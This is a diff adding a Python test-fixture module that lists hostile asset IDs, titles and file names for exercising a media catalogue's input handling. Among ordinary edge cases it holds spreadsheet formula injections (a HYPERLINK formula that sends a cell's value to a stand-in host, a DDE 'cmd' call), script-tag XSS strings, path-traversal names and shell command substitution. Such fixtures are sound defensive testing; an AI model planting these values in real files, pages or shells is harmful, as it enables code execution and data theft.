@@ -1,0 +1,63 @@
+"""Names as they come out of real catalogues and out of those who attack them."""
+
+from __future__ import annotations
+
+HOSTILE_ASSET_IDS = (
+    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "two\nlines",
+    "../../../escape",
+    "quo\"te and 'quote'",
+    "semi;colon, comma:colon",
+    "ünïcødé-图片-🐟",
+    "caf\u00e9",
+    "cafe\u0301",  # the same to the eye as the one above, and another id
+    "tab\there",
+    "back\\slash/and/slash",
+    "<script>alert(1)</script>",
+    "\u202egnp.tsal",
+    "two  spaces\u00a0and more",
+    "L" * 1_000,
+    "CON",
+    ".",
+    "${HOME}`id`$(id)",
+    "%2e%2e%2fescape",
+)
+
+HOSTILE_TITLES = (
+    "=1+1",
+    "+49 30 1234567",
+    "@everyone, look",
+    "-5 degrees",
+    "First line\r\nSecond line",
+    "A \"quoted\" 'title'; with, marks",
+    "标题 with 🐟 and العربية",
+    "T" * 5_000,
+    "</script><script>alert(1)</script>",
+    "",
+    "\ttabbed",
+    "../../title",
+)
+
+# File names below media/, each followed by the file's own ending.
+HOSTILE_FILE_NAMES = (
+    "=cmd|' calc'!A0",
+    "+plus",
+    "@at",
+    "-rf",
+    "..hidden..",
+    "a..b",
+    "quo\"te's",
+    "ünïcødé 图片 🐟",
+    "very-long-" + "x" * 200,
+    "50% off #1? yes&no",
+    "percent%20twenty",
+    "trailing dot.",
+    " space ",
+    "star*glob[1]{2}",
+    "semi;colon",
+    "UPPER.CASE.jpg",
+    "~home",
+)
